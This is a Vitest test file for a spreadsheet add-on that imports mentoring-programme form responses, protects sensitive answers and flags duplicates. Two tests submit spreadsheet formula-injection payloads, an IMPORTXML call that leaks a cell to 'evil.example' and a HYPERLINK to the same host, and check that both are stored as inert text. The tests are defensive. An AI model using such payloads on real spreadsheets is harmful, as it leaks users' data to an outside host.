import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { intakeApi } from '../../src/server/intake/api';
import { coordinatorsApi } from '../../src/server/privacy/coordinatorsApi';
import { AMINA, menteeProgramme, menteeRecords } from '../support/intake';
import { recordsOf, useWorkspace } from '../support/workspace';
import { MENTEES, MENTORS, PAIRS, SENSITIVE } from '../../src/core/schema/sheets';
import { setUpProgrammeSheets } from '../../src/server/programme';
import { publicFunctions } from '../../src/server/publicSurface';
import { forceReadWay } from '../../src/server/workspace/lookup';
import { appendRecords, readTable } from '../../src/server/workspace/table';

/**
 * Every rule holds both ways a batch can read the programme's sheets: whole (what a small sheet
 * gets, as these tests' sheets are) and by searching with TextFinder (what a large one gets).
 */
describe.each([
  ['read whole', 'whole'],
  ['found by TextFinder', 'find'],
] as const)('%s:', (_, way) => {
  beforeEach(() => forceReadWay(way));
  afterEach(() => forceReadWay(null));

  describe('ingestion of a form response', () => {
    it('turns a response into a typed, normalised record', () => {
      const { ws } = menteeProgramme();
      const { runs } = ws.submitFormResponse('Mentee intake', AMINA);
      expect(runs).toEqual([{ handler: 'onFormSubmit_', user: 'coordinator@example.org', ok: true }]);
      const [record] = menteeRecords(ws);
      expect(record).toMatchObject({
        'Mentee ID': 'ME-0001',
        Name: 'Amina Yusuf',
        Email: 'amina.yusuf@example.org',
        Phone: '+393661204545',
        'Birth year': '1997',
        Gender: 'Woman',
        'Gender preference': 'Woman',
        Languages: 'so:native, ar, en:B1',
        Municipality: 'Bologna',
        'Needs and priorities': 'Housing, Language',
        Availability: 'evenings, weekends',
        'Consent to data processing': 'TRUE',
        Minor: 'FALSE',
        'Intake problems': '',
      });
      expect(ws.sheet('Mentee intake').getRange(1, 14).getValue()).toBe('Peer Mentoring Desk key');
      // The permit answer is a sensitive detail: in the protected sheet, not in the record.
      expect(Object.keys(record!)).not.toContain('Residence permit in order');
      expect(recordsOf(ws, 'Sensitive details')).toEqual([
        expect.objectContaining({ 'Person ID': 'ME-0001', Detail: 'Residence permit in order', Value: 'Yes', Source: expect.stringMatching(/^R/) }),
      ]);
    });

    it('stores a hostile sensitive answer as inert text in the protected sheet', () => {
      const { ws } = menteeProgramme();
      ws.submitFormResponse('Mentee intake', { ...AMINA, 'Is your residence permit in order?': '=IMPORTXML("http://evil.example/?q="&A1,"//a")' });
      const sheet = ws.sheet('Sensitive details');
      expect(sheet.getRange(2, 4).getFormulas()).toEqual([['']]);
      expect(sheet.getRange(2, 4).getValue()).toBe('=IMPORTXML("http://evil.example/?q="&A1,"//a")');
    });

    it('keeps the sensitive sheet in step when a response is edited: a changed answer is updated, a withdrawn one emptied', () => {
      const { ws } = menteeProgramme();
      const { row } = ws.submitFormResponse('Mentee intake', AMINA);
      ws.editFormResponse('Mentee intake', row, { 'Is your residence permit in order?': 'Waiting for it' });
      expect(recordsOf(ws, 'Sensitive details').map((r) => r.Value)).toEqual(['Pending']);
      ws.editFormResponse('Mentee intake', row, { 'Is your residence permit in order?': '' });
      expect(recordsOf(ws, 'Sensitive details').map((r) => r.Value)).toEqual(['']);
      expect(menteeRecords(ws)).toHaveLength(1);
    });

    it('protects the sensitive sheet: a colleague who is not a coordinator cannot write to it, and their import loses nothing', () => {
      const { ws, sheetId } = menteeProgramme();
      ws.state.triggers = []; // No automatic import: the response waits in its sheet.
      ws.submitFormResponse('Mentee intake', AMINA);
      expect(() => ws.execution(() => ws.sheet('Sensitive details').getRange(3, 1).setValue('x'), 'volunteer@example.org')).toThrow(/protected cell/);
      expect(() => ws.execution(() => intakeApi.importResponses({ sheetId }), 'volunteer@example.org')).toThrow(
        expect.objectContaining({ key: 'privacy.notCoordinator' }),
      );
      expect(menteeRecords(ws)).toHaveLength(0);
      intakeApi.importResponses({ sheetId });
      expect(menteeRecords(ws)).toHaveLength(1);
      expect(recordsOf(ws, 'Sensitive details')).toHaveLength(1);
    });

    it('is idempotent: a duplicate trigger fire and a re-import give one record', () => {
      const { ws, sheetId } = menteeProgramme();
      const { row } = ws.submitFormResponse('Mentee intake', AMINA);
      ws.fireFormSubmit('Mentee intake', row);
      intakeApi.importResponses({ sheetId });
      expect(menteeRecords(ws)).toHaveLength(1);
    });

    it('counts 4 Sheets data calls for a new response, 6 when it has sensitive answers for the protected sheet', () => {
      const { ws } = menteeProgramme();
      ws.submitFormResponse('Mentee intake', AMINA);
      const sheetsData = () =>
        ['Range.getValues', 'Range.setValues', 'Range.getValue', 'Range.setValue', 'Sheet.appendRow'].reduce((n, name) => n + ws.counter.get(name), 0);
      ws.counter.reset();
      ws.submitFormResponse('Mentee intake', {
        ...AMINA,
        'Full name': 'Second Person',
        Email: 'second@example.org',
        Phone: '+39 333 1111111',
        'Is your residence permit in order?': '',
      });
      expect(sheetsData()).toBe(4);
      ws.counter.reset();
      ws.submitFormResponse('Mentee intake', { ...AMINA, 'Full name': 'Third Person', Email: 'third@example.org', Phone: '+39 333 2222222' });
      expect(sheetsData()).toBe(6);
    });
  });

  describe('ingestion rules', () => {
    const recordOf = (ws: Parameters<typeof menteeRecords>[0], name: string) => menteeRecords(ws).find((r) => r.Name === name)!;

    it('updates an edited response in place, leaves the coordinator’s columns alone, and shows when it changed', () => {
      const { ws } = menteeProgramme();
      const { row } = ws.submitFormResponse('Mentee intake', AMINA);
      intakeApi.setScreeningDecision({ role: 'mentee', id: 'ME-0001', decision: 'Admit', reason: 'Urgent housing' });
      ws.clock.advance(3 * 86_400_000);
      ws.editFormResponse('Mentee intake', row, { Municipality: 'Casalecchio di Reno' });
      const records = menteeRecords(ws);
      expect(records).toHaveLength(1);
      expect(records[0]).toMatchObject({ Municipality: 'Casalecchio di Reno', 'Screening decision': 'Admit', 'Screening reason': 'Urgent housing' });
      expect(records[0]!['Updated by the add-on']).not.toBe(records[0]!.Submitted);
    });

    it('survives a coordinator sorting the response sheet: no duplicate, no loss', () => {
      const { ws, sheetId } = menteeProgramme();
      for (const name of ['Zoe Z', 'Ali A', 'Mia M'])
        ws.submitFormResponse('Mentee intake', { ...AMINA, 'Full name': name, Email: `${name[0]}@example.org`, Phone: '' });
      ws.sheet('Mentee intake').sort(2, true);
      ws.sheet('Mentee intake').insertRowsAfter(1, 1);
      intakeApi.importResponses({ sheetId });
      expect(
        menteeRecords(ws)
          .map((r) => r.Name)
          .sort(),
      ).toEqual(['Ali A', 'Mia M', 'Zoe Z']);
    });

    it('keeps a row pasted twice as two responses rather than merging them', () => {
      const { ws, sheetId } = menteeProgramme();
      ws.setAuthorisationRequired('coordinator@example.org', true);
      ws.submitFormResponse('Mentee intake', AMINA);
      ws.setAuthorisationRequired('coordinator@example.org', false);
      const sheet = ws.sheet('Mentee intake');
      sheet.getRange(3, 1, 1, 13).setValues(sheet.getRange(2, 1, 1, 13).getValues());
      intakeApi.importResponses({ sheetId });
      const records = menteeRecords(ws);
      expect(records).toHaveLength(2);
      expect(records[1]!['Possible duplicate of']).toBe('ME-0001');
    });

    it('stores hostile answers as inert text: formulas, markup, long, right-to-left and emoji', () => {
      const { ws } = menteeProgramme();
      const long = 'ا'.repeat(5000);
      ws.submitFormResponse('Mentee intake', {
        ...AMINA,
        'Full name': '=HYPERLINK("http://evil.example","click")',
        Municipality: '+39 Bologna',
        'What do you need help with most? (first is most important)': ['@Housing', `مسكن ${long}`, '🏠 home'],
      });
      const sheet = ws.sheet('Mentees');
      const formulas = sheet.getRange(2, 1, 1, sheet.getLastColumn()).getFormulas()[0]!;
      expect(formulas.every((f) => f === '')).toBe(true);
      const record = menteeRecords(ws)[0]!;
      expect(record.Name).toBe('=HYPERLINK("http://evil.example","click")');
      expect(record.Municipality).toBe('+39 Bologna');
      expect(record['Needs and priorities']).toContain('🏠 home');
      expect(record['Needs and priorities']).toContain(long);
    });

    it('flags the same person applying twice, never merging them', () => {
      const { ws } = menteeProgramme();
      ws.submitFormResponse('Mentee intake', AMINA);
      ws.submitFormResponse('Mentee intake', { ...AMINA, 'Full name': 'Amina Y.', Email: 'amina.yusuf@example.org' });
      const records = menteeRecords(ws);
      expect(records).toHaveLength(2);
      expect(records[1]).toMatchObject({ 'Possible duplicate of': 'ME-0001' });
      expect(records[1]!['Intake problems']).toContain('Possibly the same person as ME-0001');
    });

    it('records a response without consent, says why, and marks it', () => {
      const { ws } = menteeProgramme();
      ws.submitFormResponse('Mentee intake', { ...AMINA, 'I agree to the processing of my data': '' });
      const record = menteeRecords(ws)[0]!;
      expect(record['Consent to data processing']).toBe('FALSE');
      expect(record['Intake problems']).toContain('no consent to data processing');
    });

    it('turns a response that names nobody into an intake issue, not a record', () => {
      const { ws } = menteeProgramme();
      ws.submitFormResponse('Mentee intake', { 'Year of birth': '1990', 'Languages you speak': 'Arabic' });
      expect(menteeRecords(ws)).toHaveLength(0);
      const issues = ws.workbook().find((s) => s.name === 'Intake issues')!.values;
      expect(issues).toHaveLength(2);
      expect(issues[1]!.join(' ')).toContain('no name, email or phone');
    });

    it('waits for another execution, and records a failure that the next import repairs', () => {
      const { ws, sheetId } = menteeProgramme();
      ws.documentLock.holdByOtherExecution(10 * 60_000);
      const { runs } = ws.submitFormResponse('Mentee intake', AMINA);
      expect(runs[0]!.ok).toBe(true);
      expect(menteeRecords(ws)).toHaveLength(0);
      expect(intakeApi.getIntakeOverview().ingestion.failures).toMatchObject([{ sheet: 'Mentee intake', row: 2, reason: 'busy' }]);
      ws.documentLock.releaseOther();
      intakeApi.importResponses({ sheetId });
      expect(menteeRecords(ws)).toHaveLength(1);
    });

    it('checks authorisation first and writes nothing when it is needed', () => {
      const { ws } = menteeProgramme();
      ws.setAuthorisationRequired('coordinator@example.org', true);
      ws.counter.reset();
      ws.submitFormResponse('Mentee intake', AMINA);
      expect(ws.counter.get('Range.setValues')).toBe(0);
      ws.setAuthorisationRequired('coordinator@example.org', false); // the coordinator opens the sidebar and authorises
      expect(intakeApi.getIntakeOverview().responseSheets.find((s) => s.name === 'Mentee intake')!.notImported).toBe(1);
    });

    it('gives one record when two collaborators both turned on automatic import', () => {
      const { ws } = menteeProgramme();
      coordinatorsApi.setCoordinator({ email: 'colleague@example.org', add: true });
      ws.execution(() => intakeApi.installIngestion(), 'colleague@example.org');
      const { runs } = ws.submitFormResponse('Mentee intake', AMINA);
      expect(runs.map((r) => r.user)).toEqual(['coordinator@example.org', 'colleague@example.org']);
      expect(menteeRecords(ws)).toHaveLength(1);
    });

    it('lets only a coordinator turn on automatic import, as the trigger writes sensitive answers', () => {
      const { ws } = menteeProgramme();
      expect(() => ws.execution(() => intakeApi.installIngestion(), 'volunteer@example.org')).toThrow(
        expect.objectContaining({ key: 'privacy.notCoordinator' }),
      );
      expect(ws.state.triggers.filter((t) => t.user === 'volunteer@example.org')).toHaveLength(0);
    });

    it('stops automatic import, losing nothing, when its owner is no longer a coordinator', () => {
      // The spreadsheet's owner can never be removed from a protection: here the coordinator is someone else.
      const { ws, sheetId } = menteeProgramme({ owner: 'director@example.org' });
      coordinatorsApi.setCoordinator({ email: 'colleague@example.org', add: true });
      // The colleague removes the coordinator who turned automatic import on.
      ws.execution(
        () => ws.sheet('Sensitive details').getProtections(SpreadsheetApp.ProtectionType.SHEET)[0]!.removeEditors(['coordinator@example.org']),
        'colleague@example.org',
      );
      ws.submitFormResponse('Mentee intake', AMINA);
      expect(menteeRecords(ws)).toHaveLength(0);
      expect(ws.execution(() => intakeApi.getIntakeOverview().ingestion.failures, 'colleague@example.org')).toEqual([
        expect.objectContaining({ reason: 'notCoordinator', row: 2 }),
      ]);
      ws.execution(() => intakeApi.importResponses({ sheetId }), 'colleague@example.org');
      expect(menteeRecords(ws)).toHaveLength(1);
    });

    it('reports responses in a sheet that is not mapped, once, without losing them', () => {
      const { ws } = menteeProgramme();
      ws.addResponseSheet('Old form', ['Name']);
      ws.submitFormResponse('Old form', { Name: 'X' });
      ws.submitFormResponse('Old form', { Name: 'Y' });
      const issues = ws.workbook().find((s) => s.name === 'Intake issues')!.values;
      expect(issues).toHaveLength(2);
      expect(issues[1]!.join(' ')).toContain('"Old form", which is not mapped yet');
      expect(ws.sheet('Old form').getLastRow()).toBe(3);
    });

    it('keeps the mapping when a question is renamed, and asks about a new question', () => {
      const { ws, sheetId } = menteeProgramme();
      ws.submitFormResponse('Mentee intake', AMINA);
      const sheet = ws.sheet('Mentee intake');
      sheet.getRange(1, 9).setValue('Which town do you live in?'); // was "Municipality"
      const { Municipality: _old, ...rest } = AMINA;
      ws.submitFormResponse('Mentee intake', {
        ...rest,
        'Full name': 'Second',
        Email: 'second@example.org',
        Phone: '',
        'Which town do you live in?': 'Modena',
        'Favourite food': 'Injera',
      });
      const record = recordOf(ws, 'Second');
      expect(record.Municipality).toBe('Modena');
      expect(record['Other answers']).toBe('Favourite food: Injera');
      const info = intakeApi.getIntakeOverview().responseSheets.find((s) => s.sheetId === sheetId)!;
      expect(info.pendingQuestions).toEqual(['Favourite food']);
    });
  });

  describe('import of existing responses', () => {
    it('backfills thousands of rows in chunks, each under the chunk size, with no gap', () => {
      const { ws, sheetId } = menteeProgramme();
      ws.setAuthorisationRequired('coordinator@example.org', true); // responses arrive while automatic import is paused
      for (let i = 0; i < 1_200; i++) ws.submitFormResponse('Mentee intake', { ...AMINA, 'Full name': `Person ${i}`, Email: `p${i}@example.org`, Phone: '' });
      ws.setAuthorisationRequired('coordinator@example.org', false);
      let progress = intakeApi.importResponses({ sheetId });
      let chunks = 1;
      while (!progress.done) {
        progress = intakeApi.importResponses({ sheetId, fromRow: progress.nextRow });
        chunks++;
      }
      expect(chunks).toBe(3);
      const records = menteeRecords(ws);
      expect(records).toHaveLength(1_200);
      expect(new Set(records.map((r) => r['Mentee ID'])).size).toBe(1_200);
      expect(records.at(-1)!['Mentee ID']).toBe('ME-1200');
    });
  });

  describe('consent', () => {
    it('records what was agreed: the form’s consent text version and when', () => {
      const { ws } = menteeProgramme();
      ws.submitFormResponse('Mentee intake', AMINA);
      expect(menteeRecords(ws)[0]!['Consent text version']).toMatch(/^v1 \(2026-11-23\)$/);
    });
  });

  describe('the Minor flag from a birth year alone', () => {
    // On 2026-12-01 someone born in 2008 may not have turned 18 yet: never read as an adult.
    it.each([
      ['2009', 'TRUE'],
      ['2008', 'TRUE'],
      ['2007', 'FALSE'],
      ['', ''],
    ])('born %s gives Minor %s', (year, minor) => {
      const { ws } = menteeProgramme({ now: '2026-12-01T09:00:00Z' });
      ws.submitFormResponse('Mentee intake', { ...AMINA, 'Year of birth': year });
      expect(menteeRecords(ws)[0]!.Minor).toBe(minor);
    });
  });
});

/**
 * The searches that stand in for reading a large sheet (src/server/workspace/lookup.ts) at their
 * edges: each must find every record the rule would, and the rule (not the search) decides.
 */
describe('lookups by TextFinder, at their edges', () => {
  beforeEach(() => forceReadWay('find'));
  afterEach(() => forceReadWay(null));

  const person = (name: string, email: string, phone: string) => ({ ...AMINA, 'Full name': name, Email: email, Phone: phone });
  const typeRecord = (values: Record<string, unknown>) =>
    appendRecords(readTable(SpreadsheetApp.getActiveSpreadsheet(), MENTEES), [{ consentData: true, ...values }], { byCoordinator: true });

  it('flags an email that differs only in case, and one with + in it only when it is the same address', () => {
    const { ws } = menteeProgramme();
    typeRecord({ id: 'ME-0001', name: 'Typed', email: 'A+B@X.org' });
    ws.submitFormResponse('Mentee intake', person('Same address', 'a+b@x.org', ''));
    ws.submitFormResponse('Mentee intake', person('Other address', 'aab@x.org', ''));
    const records = menteeRecords(ws);
    expect(records.find((r) => r.Name === 'Same address')!['Possible duplicate of']).toBe('ME-0001');
    expect(records.find((r) => r.Name === 'Other address')!['Possible duplicate of']).toBe('');
  });

  it('flags a phone whose last nine digits match with other separators, and not one that only contains them', () => {
    const { ws } = menteeProgramme();
    typeRecord({ id: 'ME-0001', name: 'Typed', phone: '+39 (333) 100-0010' });
    ws.submitFormResponse('Mentee intake', person('Same phone', 'same@example.org', '333 1000010'));
    ws.submitFormResponse('Mentee intake', person('Longer phone', 'longer@example.org', '333 1000010 9'));
    const records = menteeRecords(ws);
    expect(records.find((r) => r.Name === 'Same phone')!['Possible duplicate of']).toBe('ME-0001');
    expect(records.find((r) => r.Name === 'Longer phone')!['Possible duplicate of']).toBe('');
  });

  it('tells a key from a longer key it is the start of: a row pasted twice, each edited, updates its own record', () => {
    const { ws, sheetId } = menteeProgramme();
    ws.setAuthorisationRequired('coordinator@example.org', true);
    ws.submitFormResponse('Mentee intake', AMINA);
    ws.setAuthorisationRequired('coordinator@example.org', false);
    const sheet = ws.sheet('Mentee intake');
    sheet.getRange(3, 1, 1, 13).setValues(sheet.getRange(2, 1, 1, 13).getValues());
    intakeApi.importResponses({ sheetId });
    const [first, copy] = sheet
      .getRange(2, 14, 2, 1)
      .getValues()
      .map(([k]) => String(k));
    expect(copy).toBe(`${first}-r3`);
    ws.editFormResponse('Mentee intake', 3, { Municipality: 'Modena' });
    ws.editFormResponse('Mentee intake', 2, { Municipality: 'Parma' });
    expect(menteeRecords(ws).map((r) => [r['Mentee ID'], r.Municipality])).toEqual([
      ['ME-0001', 'Parma'],
      ['ME-0002', 'Modena'],
    ]);
  });

  it('never gives an id typed by hand above the mark, however it is padded', () => {
    const { ws } = menteeProgramme();
    ws.submitFormResponse('Mentee intake', person('First', 'first@example.org', ''));
    typeRecord({ id: 'ME-2', name: 'Typed two' });
    typeRecord({ id: 'ME-0003', name: 'Typed three' });
    ws.submitFormResponse('Mentee intake', person('Next', 'next@example.org', ''));
    expect(menteeRecords(ws).find((r) => r.Name === 'Next')!['Mentee ID']).toBe('ME-0004');
  });

  it('goes past every id of a sheet made before id marks, with one read of the id column', () => {
    const { ws } = menteeProgramme();
    for (let n = 1; n <= 12; n++) typeRecord({ id: `ME-${String(n).padStart(4, '0')}`, name: `Old ${n}` });
    ws.submitFormResponse('Mentee intake', person('New', 'new@example.org', ''));
    expect(menteeRecords(ws).find((r) => r.Name === 'New')!['Mentee ID']).toBe('ME-0013');
  });

  it('updates the right record after the coordinator sorted the Mentees sheet between two responses', () => {
    const { ws } = menteeProgramme();
    const { row } = ws.submitFormResponse('Mentee intake', person('Zoe Z', 'zoe@example.org', ''));
    ws.submitFormResponse('Mentee intake', person('Ali A', 'ali@example.org', ''));
    const mentees = ws.sheet('Mentees');
    mentees.sort(mentees.getRange(1, 1, 1, mentees.getLastColumn()).getValues()[0]!.indexOf('Name') + 1, true);
    ws.editFormResponse('Mentee intake', row, { Municipality: 'Imola' });
    const records = menteeRecords(ws);
    expect(records.map((r) => r.Name)).toEqual(['Ali A', 'Zoe Z']);
    expect(records.map((r) => r.Municipality)).toEqual(['Bologna', 'Imola']);
  });

  it('reads only its own rows of a large Sensitive details sheet when a response is edited', () => {
    const { ws } = menteeProgramme();
    appendRecords(
      readTable(SpreadsheetApp.getActiveSpreadsheet(), SENSITIVE),
      Array.from({ length: 3_000 }, (_, i) => ({ personId: `ME-${i + 100}`, detail: 'Residence permit in order', value: 'Yes', source: `old-${i}` })),
      { byCoordinator: true },
    );
    const { row } = ws.submitFormResponse('Mentee intake', AMINA);
    ws.counter.reset();
    ws.editFormResponse('Mentee intake', row, { 'Is your residence permit in order?': 'Waiting for it' });
    expect(ws.counter.cells).toBeLessThan(300);
    const details = recordsOf(ws, 'Sensitive details');
    expect(details).toHaveLength(3_001);
    expect(details.at(-1)).toMatchObject({ 'Person ID': 'ME-0001', Value: 'Pending' });
    expect(details.filter((d) => d.Value !== 'Yes')).toHaveLength(1);
  });

  it('links a diary by a pair code typed in lower case, and by the one open pair of a second mentor', () => {
    const ws = useWorkspace();
    ws.setFunctionResolver((name) => (publicFunctions as Record<string, unknown>)[name] as ((e: unknown) => unknown) | undefined);
    setUpProgrammeSheets();
    intakeApi.installIngestion();
    intakeApi.createStandardForms({ kinds: ['diary'] });
    const spreadsheet = SpreadsheetApp.getActiveSpreadsheet();
    appendRecords(
      readTable(spreadsheet, MENTORS),
      [
        { id: 'MT-0001', name: 'Samira Haddad', email: 'samira@example.org', consentData: true },
        { id: 'MT-0002', name: 'Luca Rossi', email: 'luca@example.org', consentData: true },
      ],
      { byCoordinator: true },
    );
    appendRecords(
      readTable(spreadsheet, PAIRS),
      [
        { code: 'P-0001', mentorId: 'MT-0001', secondMentorId: 'MT-0002', menteeId: 'ME-0001', status: 'Active' },
        { code: 'P-0002', mentorId: 'MT-0002', menteeId: 'ME-0002', status: 'Closed – completed' },
      ],
      { byCoordinator: true },
    );
    const diary = (answers: Record<string, string>) =>
      ws.submitFormResponse('Form responses 1', { 'Date of the meeting': '2026-11-20', 'Do you need support from the coordinator now?': 'No', ...answers });
    diary({ 'Email address': 'luca@example.org' });
    diary({ 'Email address': 'samira@example.org', 'Pair code': 'p-0001' });
    expect(recordsOf(ws, 'Meetings').map((m) => [m['Mentor ID'], m['Pair code'], m['Intake problems']])).toEqual([
      ['MT-0002', 'P-0001', ''],
      ['MT-0001', 'P-0001', ''],
    ]);
  });

  it('moves a few hundred cells for a new response and for an edit, whatever the sheet’s size', () => {
    const { ws } = menteeProgramme();
    typeRecord({ id: 'ME-0001', name: 'First', email: 'first@example.org' });
    appendRecords(
      readTable(SpreadsheetApp.getActiveSpreadsheet(), MENTEES),
      Array.from({ length: 2_000 }, (_, i) => ({
        id: `ME-${String(i + 2).padStart(4, '0')}`,
        name: `Old ${i}`,
        email: `old${i}@example.org`,
        consentData: true,
      })),
      { byCoordinator: true },
    );
    // The first response after ids typed by hand reads the id column once (no mark yet); the mark then does.
    ws.submitFormResponse('Mentee intake', person('Warm-up', 'warm@example.org', ''));
    ws.counter.reset();
    const { row } = ws.submitFormResponse('Mentee intake', person('New', 'new@example.org', '333 1234567'));
    expect(ws.counter.cells).toBeLessThan(300);
    ws.counter.reset();
    ws.editFormResponse('Mentee intake', row, { Municipality: 'Imola' });
    expect(ws.counter.cells).toBeLessThan(300);
    expect(menteeRecords(ws).find((r) => r.Name === 'New')).toMatchObject({ 'Mentee ID': 'ME-2003', Municipality: 'Imola' });
  });
});
